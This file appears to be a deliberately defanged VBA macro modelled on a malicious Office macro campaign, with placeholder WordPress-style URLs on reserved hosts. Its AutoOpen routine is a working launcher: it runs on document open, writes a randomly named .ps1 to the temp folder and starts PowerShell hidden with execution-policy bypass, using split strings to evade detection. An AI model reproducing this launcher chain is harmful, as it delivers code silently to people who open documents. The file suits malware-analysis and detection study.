Attribute VB_Name = "Module1"
' An inert look-alike of the campaign's macro: the text is no working script and the hosts are reserved.
Private Function PartOne() As String
    Dim s As String
    s = "$u='https://one.exam" & "ple/wp-includes/common.php'" & vbCrLf
    s = s & "$v='https://two.exam" & "ple/wp-content/index2.php'" & vbCrLf
    PartOne = s
End Function

Private Function PartTwo() As String
    PartTwo = "# sleep " & CStr(6 * 10) & " and end" & vbCrLf
End Function

Private Function PartThree(ByVal body As String) As String
    PartThree = body & "exit" & vbCrLf
End Function

Private Function RandomName(ByVal length As Integer) As String
    Dim i As Integer
    Randomize
    For i = 1 To length
        RandomName = RandomName & Chr(97 + Int(Rnd() * 26))
    Next i
End Function

Sub AutoOpen()
    Dim path As String, text As String, f As Integer
    On Error Resume Next
    text = PartThree(PartOne() & PartTwo())
    path = Environ("TEMP") & "\" & RandomName(3) & ".ps1"
    f = FreeFile
    Open path For Output As #f
    Print #f, text;
    Close #f
    Shell "power" & "shell -w hid" & "den -ex b" & "ypass -f " & path, vbHide
End Sub
